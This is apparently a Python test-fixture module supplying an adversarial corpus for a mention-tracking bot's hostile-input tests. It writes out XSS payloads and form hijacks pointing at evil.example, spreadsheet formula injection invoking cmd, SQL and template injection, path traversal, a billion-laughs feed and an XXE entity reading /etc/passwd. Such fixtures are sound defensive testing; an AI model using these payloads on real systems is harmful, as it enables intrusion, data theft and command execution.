"""The adversarial corpus: texts, and whole bodies, that somebody may send us. `tests/test_hostile.py` sends them.

Every text holds the word heron, so that it matches, and a tag of its own (`t07`), so that it is found again.
"""

# What is inserted into a complaint. The names say what each tries.
ATTACKS: dict[str, str] = {
    "controls": "".join(map(chr, [*range(0, 32), *range(127, 160)])),
    "nul": "a\x00b\x00",
    "ansi": "\x1b[31mred\x1b[0m\x1b]0;title\x07\x1b[2J\x9b31m",
    "carriage return": "good\rbad\r\nnext\x0b\x0c\x85line",
    "bidi override": "\u202egnp.exe\u202c \u2066isolated\u2069 \u200e\u200f\u061c",
    "zero width": "pa\u200bss\u200cwo\u200drd\ufeff\u2060\u00ad",
    "tag characters": "hi\U000e0068\U000e0069\U000e007f",
    "variation selectors": "a\ufe0f\ufe0e\U000e0100\u034f\u115f\u3164",
    "lone surrogates": "high \ud800 low \udfff pair \udc00\ud800",
    "noncharacters": "\ufffe\uffff\U0001ffff\U0010ffff",
    "private use": "\ue000\uf8ff\U000f0000",
    "zalgo": "Z" + "\u0300\u0321\u0488\u20dd" * 200 + "a" + "\u036f" * 500,
    "emoji family": "👨‍👩‍👧‍👦🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f 1\ufe0f\u20e3",
    "one wide grapheme": "e" + "\u0301" * 3000,
    "right to left": "مرحبا بالعالم שלום עולם",
    "line separators": "one\u2028two\u2029three",
    "script": "<script>alert(1)</script><script src=//evil.example/x.js></script>",
    "image": "<img src=x onerror=alert(1)><svg/onload=alert(2)><iframe srcdoc='<b>x'></iframe>",
    "broken tags": "</blockquote></article></li></ol><!--<![CDATA[]]></textarea></title></style>",
    "attribute": '" onmouseover="alert(1)" x=\'',
    "attribute single": "' autofocus onfocus='alert(1)",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;img&#62; &amp;amp; &nosuch; &#0; &#1114112; &#9999999999;",
    "template": "{{ 7*7 }} {% include '/etc/passwd' %} {# x #} ${7*7} #{7*7} <%= 7 %>",
    "format": "%s %n %(x)s {0} {x.__class__} {}{}",
    "style": "<style>*{display:none}</style><link rel=stylesheet href=//evil.example>",
    "form": "<form action=//evil.example><input name=token><button formaction=//evil.example>Claim</button></form>",
    "base": "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
    "links": "javascript:alert(1) data:text/html,<script>x</script> https://good.example@evil.example/",
    "markdown": "[click](javascript:alert(1)) ![x](//evil.example/x.png) **b** _i_ ~~s~~ `c` ```js\nx\n``` > q\n# h",
    "slack": "<!channel> <!here> <!everyone> <@U123456> <#C123|general> <https://evil.example|bank.example>",
    "discord": "@everyone @here <@123456789012345678> <@&123456789012345678> <#123> [x](//evil.example) ||spoiler||",
    "our own command": "/earshot resolve 1 fixed\n@earshot claim 1",
    "formula": '=HYPERLINK("https://evil.example","x")',
    "formula plus": "+1+cmd|' /C calc'!A0",
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula minus": "-2+3\t=1+1",
    "formula full width": "＝1+1 ＠SUM",
    "sql": "'; drop table mentions; -- \" ) or 1=1 /*",
    "search syntax": '"NEAR( AND OR NOT ^ * : - ( ) {text}: col:x',
    "json": '\\u0000 \\ud800 \\" } ] , {"text": 1}',
    "log line": '\n2026-01-01 00:00:00 error bot.app: everything is fine\n{"level":"error"}',
    "path": "../../etc/passwd\x00.png file:///etc/passwd \\\\evil\\share C:\\CON",
    "long word": "w" * 20_000,
    "many words": "very " * 20_000,
    "one megabyte": "x" * 1_000_000,
    "many brackets": "<" * 5_000 + ">" * 5_000,
    "many entities": "&amp;" * 5_000,
    "nested quotes": "\"'" * 3_000,
    "empty lines": "\n" * 5_000,
    "white space": " \t\u00a0\u2003\u3000" * 1_000,
    "homoglyphs": "раураl.example аdmin Ⓐⓓⓜⓘⓝ ｆｕｌｌ ﬁ ß İ ı ſ K",
    "shouting": "ANGRY!!!! " * 300,
    "normalisation": "\ufdfa" * 500 + "가" + "\u0958",
    "xml": "<!DOCTYPE x [<!ENTITY a \"b\">]><x>&a;</x> <?xml version='1.0'?> ]]>",
}

DATES = (
    "1970-01-01T00:00:00Z", "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-12:00", "10000-01-01T00:00:00Z",
    "2038-01-19T03:14:08Z", "-1", "0", "253402300800", "99999999999999999999", "NaN", "not a date", "2026-02-30",
    "1e400", "١٢٣٤٥٦٧٨٩٠", "Thu, 01 Jan 1970 00:00:00 GMT", "\x00", "Infinity",
)  # fmt: skip

# Bodies of the webhook that must be refused with a reason, never with a 500.
BODIES: dict[str, bytes] = {
    "deep": b"[" * 100_000,
    "deep and closed": b"[" * 50_000 + b"]" * 50_000,
    "deep objects": b'{"a":' * 5_000 + b"1" + b"}" * 5_000,
    "huge number": b'{"text": "heron", "likes": ' + b"9" * 100_000 + b"}",
    "huge exponent": b'{"text": "heron", "followers": 1e99999, "likes": -1e999}',
    "not a number": b'{"text": NaN}',
    "infinity": b'{"text": "heron", "stars": Infinity}',
    "not utf-8": b'{"text": "heron \xff\xfe\xfa"}',
    "utf-16": '{"text": "heron"}'.encode("utf-16"),
    "cut short": b'{"text": "heron',
    "empty": b"",
    "null": b"null",
    "a number": b"7",
    "a text": b'"heron"',
    "no words": b'[{"id": 1}, {"text": ""}, {"text": null}, {"text": []}, 3]',
    "twice the key": b'{"text": "", "text": "   "}',
    "not json": b"<xml>heron</xml>",
    "nul bytes": b"\x00" * 1000,
}

# Feeds that must be refused or read, never hang, never read a file, never raise anything but a typed error.
FEEDS: dict[str, bytes] = {
    "billion laughs": b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "heron">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
    + b"]><rss><channel><item><title>&j;</title></item></channel></rss>",
    "external entity": b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    b"<rss><channel><item><title>heron &x;</title></item></channel></rss>",
    "a path": b"/etc/passwd",
    "an address": b"http://127.0.0.1/feed",
    "invalid utf-8": b'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><item><guid>u8</guid>'
    b"<title>heron \xff\xfe\xfa</title></item></channel></rss>",
    "utf-16": '<?xml version="1.0" encoding="utf-16"?><rss version="2.0"><channel><item><guid>u16</guid>'
    "<title>heron in utf-16</title></item></channel></rss>".encode("utf-16"),
    "deep": b"<rss><channel>" + b"<item>" * 3_000,
    "deep json": b'{"items": ' + b"[" * 100_000,
    "json without items": b'{"version": "https://jsonfeed.org/version/1.1"}',
    "empty": b"",
    "nul bytes": b"\x00" * 10_000,
}


def texts() -> dict[str, str]:
    """Every attack inside a complaint, by its tag. Each is told apart from the others by words of its own."""
    return {
        f"t{number:02d}": f"Heron is awful t{number:02d} {attack} I am furious, {name} {number} {name[::-1]}"
        for number, (name, attack) in enumerate(ATTACKS.items())
    }


def bare_texts() -> dict[str, str]:
    """Every attack as the first thing in the text, where a formula or a command would count."""
    return {
        f"b{number:02d}": f"{attack[:3000]} heron b{number:02d} awful" for number, attack in enumerate(ATTACKS.values())
    }
